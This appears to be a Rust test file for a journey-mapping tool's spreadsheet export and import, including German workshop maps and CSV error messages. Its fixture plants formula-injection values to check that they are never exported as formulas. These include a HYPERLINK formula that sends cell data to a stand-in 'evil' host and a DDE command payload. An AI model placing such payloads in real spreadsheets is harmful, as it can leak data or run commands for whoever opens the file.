//! Workbooks: journeyc's own (export xlsx → import), workshop maps (as
//! cells, as CSV), German touchpoint tables, and the errors they give.

use calamine::Reader;
use journey_analysis::{Config, Workspace};
use journey_export::sheet::Lang;
use journey_export::Document;
use journey_import::workbook::{Grid, Value};
use journey_import::{import_csv, import_workbook, Import, ImportError, OutFile};
use std::path::{Path, PathBuf};

fn workspace(files: &[(String, String)]) -> Workspace {
    let mut ws = Workspace::new();
    for (name, text) in files {
        ws.set_file(
            PathBuf::from("/nowhere").join(name),
            name.clone(),
            text.clone(),
        );
    }
    ws
}

fn out(files: &[OutFile]) -> Vec<(String, String)> {
    files
        .iter()
        .map(|f| (f.name.clone(), f.text.clone()))
        .collect()
}

fn errors_of(ws: &Workspace) -> Vec<String> {
    ws.diagnostics()
        .iter()
        .filter(|d| d.severity == journey_diagnostics::Severity::Error)
        .map(|d| format!("{}: {}", d.code, d.message))
        .collect()
}

/// The export's JSON without files and locations; the findings sorted
/// (the checker reports them in file order, and the imported files
/// divide the definitions differently than the examples do).
fn comparable(doc: &Document) -> serde_json::Value {
    fn strip(v: &mut serde_json::Value) {
        match v {
            serde_json::Value::Object(m) => {
                m.remove("location");
                m.remove("files");
                m.values_mut().for_each(strip);
            }
            serde_json::Value::Array(a) => a.iter_mut().for_each(strip),
            _ => {}
        }
    }
    let mut v: serde_json::Value = serde_json::from_str(&journey_export::json(doc)).unwrap();
    strip(&mut v);
    if let Some(serde_json::Value::Array(f)) = v.get_mut("findings") {
        f.sort_by_key(|x| x.to_string());
    }
    v
}

fn dir() -> &'static Path {
    Path::new("/nonexistent/out")
}

const HOSTILE: &str = r#"
journey j "=HYPERLINK(\"http://evil.invalid/?d=\"&B2,\"Open\")" {
  value "+49 30 1234 is our number; -5 % for you"
  description """
    Two lines,
    the second with a tab	here.
    """
  phases p1, p2
  evidence "@SUM(A1:A9)", "  padded  ", "\"quoted\""
  disclaimer "_x0041_ stays _x0041_"
}

persona eve "-Eve" {
  role "'starts with a quote"
  needs "one\ntwo", "=1+1"
  channels web
  empathy {
    says "\"I say this.\""
  }
}

phase p1 "=cmd|' /C calc'!A0" {
  kind awareness
  question "?\u{1}control"
  activities "tab\tinside", "-minus"
  message "café 👋 ünïcödé"
  supports "a quoted part", pr
  promise pr "=promise"
  kpi k1 "=kpi" target "=text target" unit "@unit"
  kpi "date" target 2027-06-30
  kpi "big" target 12345678.25 unit "%"
  moment "+moment"
  teams team_a
  systems crm

  touchpoint t1 "@title" {
    channel web online
    owner team_a
    serves eve
    says "=says", "+plus", " lead and trail "
    expectation 3
    experience 4
    importance high
    monitored
    state current
    moment "=note"
    collects "e-mail"
    basis consent
    description "line one\nline two\n"
    allow J0414 "=reason: with colon"
  }
}

phase p2 "Two" {
  kind loyalty
  message "café again"

  touchpoint t2 "Keeper" {
    channel kiosk offline
    owner team_a
    serves eve
    keeps pr
    expectation 2
    state planned
    monitored no
  }
}

goal g "=goal" {
  metric "=metric" current 1.5 target "-x" by 2027-12-31
  actor eve {
    impact i "=impact" {
      kpi "=ikpi" target 3
      via t1
      deliverable d "=deliverable" via t2
      deliverable "no id" via t1
    }
  }
  actor partners "Partners" {
    impact i2 "+impact two" {
      kpi "x"
    }
  }
}
"#;

#[test]
fn hostile_values_survive_the_workbook_exactly_and_no_cell_is_a_formula() {
    let ws = workspace(&[("j.journey".into(), HOSTILE.into())]);
    assert_eq!(errors_of(&ws), Vec::<String>::new());
    let before = Document::build(&ws, &ws.diagnostics());
    for lang in [Lang::En, Lang::De] {
        let bytes = journey_export::xlsx::render(&before, lang).unwrap();
        // No formula anywhere: every text is a string cell.
        let mut book = calamine::open_workbook_auto_from_rs(std::io::Cursor::new(&bytes)).unwrap();
        for name in book.sheet_names() {
            let formulas = book.worksheet_formula(&name).unwrap();
            assert!(
                formulas.used_cells().all(|(_, _, f)| f.is_empty()),
                "{name} has formulas"
            );
        }
        let imported = import_workbook(&bytes, "w.xlsx", dir()).unwrap_or_else(|e| panic!("{e:?}"));
        let back = workspace(&out(&imported.files));
        assert_eq!(errors_of(&back), Vec::<String>::new());
        let after = Document::build(&back, &back.diagnostics());
        assert_eq!(comparable(&after), comparable(&before), "{lang:?}");
    }
}

#[test]
fn an_edited_derived_map_cell_is_an_error_that_says_where_to_edit() {
    let ws = workspace(&[("j.journey".into(), HOSTILE.into())]);
    let doc = Document::build(&ws, &ws.diagnostics());
    let bytes = journey_export::xlsx::render(&doc, Lang::En).unwrap();
    let mut grids = journey_import::workbook::read_workbook(&bytes).unwrap();
    let map = grids.iter_mut().find(|g| g.name == "Map").unwrap();
    // Row 7 is "Touchpoints online"; B is phase p1.
    let mut rows: Vec<Vec<Value>> = (0..map.height())
        .map(|r| (0..map.width()).map(|c| map.get(r, c).clone()).collect())
        .collect();
    assert_eq!(rows[6][0], Value::Text("Touchpoints online".into()));
    rows[6][1] = Value::Text("@title (web)\nNew idea (web)".into());
    *map = Grid::new("Map", rows);
    let errors = journey_import::import_grids(grids, "w.xlsx", dir()).unwrap_err();
    let shown: Vec<String> = errors.iter().map(ToString::to_string).collect();
    assert_eq!(shown.len(), 1, "{shown:?}");
    assert!(
        shown[0].starts_with(
            "Map!B7: this row is drawn from the sheet Touchpoints, and it says `@title (web)`;"
        ),
        "{shown:?}"
    );
}

fn text(s: &str) -> Value {
    if s.is_empty() {
        Value::Empty
    } else {
        Value::Text(s.to_string())
    }
}

fn grid(name: &str, rows: &[&[&str]]) -> Grid {
    Grid::new(
        name,
        rows.iter()
            .map(|r| r.iter().map(|c| text(c)).collect())
            .collect(),
    )
}

/// A workshop poster as a team fills it in: German labels in their own
/// order, a title row, gaps, an unknown row and a notes column.
fn workshop() -> Vec<Vec<String>> {
    let rows: &[&[&str]] = &[
        &["Customer Journey Fahrradabo", "", "", "", ""],
        &[
            "Phase",
            "Inspiration",
            "Informationssuche",
            "Kauf",
            "Notizen",
        ],
        &[
            "Zentrale Frage",
            "Gibt es was Besseres als mein altes Rad?",
            "",
            "Was kostet es im Monat?",
            "Fragen aus dem Workshop am 3.5.",
        ],
        &[
            "Touchpoints online",
            "Instagram-Post\nYouTube-Video (video)",
            "Vergleichsportal (review)",
            "Bestellstrecke (web)",
            "",
        ],
        &[
            "Touchpoints offline",
            "",
            "Probefahrt im Laden (store)",
            "",
            "",
        ],
        &[
            "Aktivitäten der Kunden",
            "- scrollt abends durch Instagram",
            "liest Tests\nfragt Freunde",
            "",
            "",
        ],
        &[
            "Kernbotschaft",
            "Dein Rad, gewartet, vor deiner Tür.",
            "",
            "24 € im Monat, Reparaturen inklusive.",
            "",
        ],
        &[
            "KPIs",
            "Reichweite: 20.000 pro Monat",
            "",
            "Conversion: 4,5 %",
            "",
        ],
        &[
            "Verantwortlich",
            "Marketing",
            "Marketing, Vertrieb",
            "E-Commerce",
            "",
        ],
        &["Stimmung im Team", "gut", "", "", ""],
        &["Erlebnis", "4", "", "3", ""],
    ];
    rows.iter()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect()
}

fn as_grid(name: &str, rows: &[Vec<String>]) -> Grid {
    let refs: Vec<Vec<&str>> = rows
        .iter()
        .map(|r| r.iter().map(String::as_str).collect())
        .collect();
    let slices: Vec<&[&str]> = refs.iter().map(Vec::as_slice).collect();
    grid(name, &slices)
}

fn import_map(rows: &[Vec<String>]) -> Result<Import, Vec<ImportError>> {
    journey_import::import_grids(vec![as_grid("Tabelle1", rows)], "workshop.xlsx", dir())
}

#[test]
fn a_german_workshop_map_becomes_a_journey_that_checks() {
    let imp = import_map(&workshop()).unwrap_or_else(|e| panic!("{e:?}"));
    let files = out(&imp.files);
    let ws = workspace(&files);
    assert_eq!(errors_of(&ws), Vec::<String>::new());
    assert_eq!((imp.phases, imp.touchpoints, imp.journeys), (3, 5, 1));
    let phases = &files.iter().find(|(n, _)| n == "phasen.journey").unwrap().1;
    for expected in [
        "phase inspiration \"Inspiration\" {",
        "kind awareness",
        "question \"Gibt es was Besseres als mein altes Rad?\"",
        "activities \"scrollt abends durch Instagram\"",
        "kpi \"Reichweite\" target 20000 unit \"pro Monat\"",
        "kpi \"Conversion\" target 4.5 unit \"%\"",
        "teams marketing, vertrieb",
        "touchpoint instagram_post \"Instagram-Post\" {",
        "channel social",
        "touchpoint youtube_video \"YouTube-Video\" {",
        "channel store",
        "experience 4",
    ] {
        assert!(phases.contains(expected), "{expected}\n{phases}");
    }
    let journey = &files
        .iter()
        .find(|(n, _)| n == "journey.journey")
        .unwrap()
        .1;
    assert!(
        journey.contains("journey customer_journey_fahrradabo \"Customer Journey Fahrradabo\" {"),
        "{journey}"
    );
    assert!(
        journey.contains("phases inspiration, informationssuche, kauf"),
        "{journey}"
    );
    let notes = imp.notes.join("\n");
    assert!(
        notes.contains("Tabelle1!E2: ignored the column `Notizen` (notes)"),
        "{notes}"
    );
    assert!(
        notes.contains("Tabelle1!A10: ignored the row `Stimmung im Team`"),
        "{notes}"
    );
}

#[test]
fn three_mistakes_in_a_workshop_map_are_three_errors_at_their_cells() {
    let mut rows = workshop();
    rows[10][1] = "7".into(); // experience outside 1–5
    rows[10][3] = "super".into(); // a score that is not a number
    rows[1].push(String::new()); // a column of touchpoints without a title
    rows[3].push("Chatbot (chat)".into());
    let errors = import_map(&rows).unwrap_err();
    let shown: Vec<String> = errors.iter().map(ToString::to_string).collect();
    assert_eq!(
        shown,
        [
            "Tabelle1!F2: this column has touchpoints (Tabelle1!F4) but no phase title; write the phase's title here, or delete the column",
            "Tabelle1!B11: `7` is outside the scale; the experience is a number from 1 (poor) to 5 (excellent), decimals allowed",
            "Tabelle1!D11: `super` is not a number; the experience is a number from 1 (poor) to 5 (excellent), decimals allowed",
        ]
    );
}

#[test]
fn a_workshop_map_as_semicolon_csv_with_bom() {
    let csv: String = std::iter::once("\u{feff}".to_string())
        .chain(workshop().iter().map(|r| {
            r.iter()
                .map(|c| format!("\"{}\"", c.replace('"', "\"\"")))
                .collect::<Vec<_>>()
                .join(";")
                + "\r\n"
        }))
        .collect();
    let imp = import_csv(&csv, "workshop.csv", dir()).unwrap_or_else(|e| panic!("{e:?}"));
    assert_eq!((imp.phases, imp.touchpoints), (3, 5));
    let ws = workspace(&out(&imp.files));
    assert_eq!(errors_of(&ws), Vec::<String>::new());
    // The cells of a CSV are named without a sheet.
    let mut rows = workshop();
    rows[10][1] = "0".into();
    let csv: String = rows
        .iter()
        .map(|r| {
            r.iter()
                .map(|c| format!("\"{c}\""))
                .collect::<Vec<_>>()
                .join(";")
                + "\n"
        })
        .collect();
    let shown: Vec<String> = import_csv(&csv, "workshop.csv", dir())
        .unwrap_err()
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(
        shown,
        ["B11: `0` is outside the scale; the experience is a number from 1 (poor) to 5 (excellent), decimals allowed"]
    );
}

#[test]
fn a_six_column_german_touchpoint_table() {
    let csv = "Phase;Touchpoint;Kanal;Verantwortlich;Erwartung;Erlebnis\n\
               Inspiration;Instagram-Post;social;marketing;3;4\n\
               Inspiration;Plakat am Bahnhof;Plakat;marketing;2;2\n\
               Kauf;Bestellstrecke;web;ecommerce;5;3\n";
    let imp = import_csv(csv, "tabelle.csv", dir()).unwrap_or_else(|e| panic!("{e:?}"));
    assert_eq!((imp.phases, imp.touchpoints), (2, 3));
    let files = out(&imp.files);
    assert_eq!(errors_of(&workspace(&files)), Vec::<String>::new());
    let phases = &files.iter().find(|(n, _)| n == "phases.journey").unwrap().1;
    for expected in [
        "phase inspiration \"Inspiration\" {",
        "touchpoint plakat_am_bahnhof \"Plakat am Bahnhof\" {",
        "channel outdoor",
        "owner marketing",
        "expectation 2",
        "touchpoint bestellstrecke \"Bestellstrecke\" {",
    ] {
        assert!(phases.contains(expected), "{expected}\n{phases}");
    }
}

#[test]
fn a_file_that_is_no_spreadsheet() {
    let errors = import_workbook(b"not a zip", "x.xlsx", dir()).unwrap_err();
    assert!(
        errors[0]
            .to_string()
            .starts_with("not a spreadsheet journeyc can read"),
        "{errors:?}"
    );
    let errors = journey_import::import_grids(
        vec![grid("Sheet1", &[&["a", "b"], &["c", "d"]])],
        "x.xlsx",
        dir(),
    )
    .unwrap_err();
    assert!(
        errors[0]
            .to_string()
            .starts_with("Sheet1!A1: no journey map found"),
        "{errors:?}"
    );
}

#[test]
fn a_csv_in_windows_1252_is_named_as_such() {
    let bytes = b"Phase;Touchpoint\nKauf;Bestellbest\xe4tigung\n";
    let e = String::from_utf8(bytes.to_vec()).unwrap_err();
    let msg = journey_import::not_utf8("t.csv", e.as_bytes(), e.utf8_error().valid_up_to());
    assert_eq!(
        msg,
        "`t.csv` is not UTF-8 text: byte 0xE4 on line 2 looks like Windows-1252 (Excel's plain \"CSV\"; it would read `ätigung`); save the table as \"CSV UTF-8\" (Excel: \"CSV UTF-8 (durch Trennzeichen getrennt)\"), or import the .xlsx itself with `journeyc import xlsx`"
    );
}

#[test]
fn every_example_round_trips_through_the_workbook() {
    let examples =
        std::fs::canonicalize(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples"))
            .unwrap();
    let config = Config::load(&examples.join("journey.toml"));
    for name in [
        "b2b-saas",
        "retail",
        "subscription-loop",
        "messaging-pitfalls",
    ] {
        let path = examples.join(name);
        let loaded = journey_analysis::load::load_workspace(
            std::slice::from_ref(&path),
            config.clone(),
            &|p: &Path| p.display().to_string(),
        );
        let ws = loaded.workspace;
        let before = Document::build(&ws, &ws.diagnostics());
        let bytes = journey_export::xlsx::render(&before, Lang::De).unwrap();
        // Checked as if imported into a folder of the examples (under
        // their journey.toml); nothing is written.
        let imported = import_workbook(&bytes, "w.xlsx", &examples.join("imported"))
            .unwrap_or_else(|e| panic!("{name}: {e:?}"));
        let mut back = Workspace::new();
        for f in &imported.files {
            back.set_file(
                examples.join("imported").join(&f.name),
                f.name.clone(),
                f.text.clone(),
            );
        }
        back.set_config(config.clone(), "journey.toml");
        assert_eq!(errors_of(&back), Vec::<String>::new(), "{name}");
        let after = Document::build(&back, &back.diagnostics());
        assert_eq!(comparable(&after), comparable(&before), "{name}");
    }
}
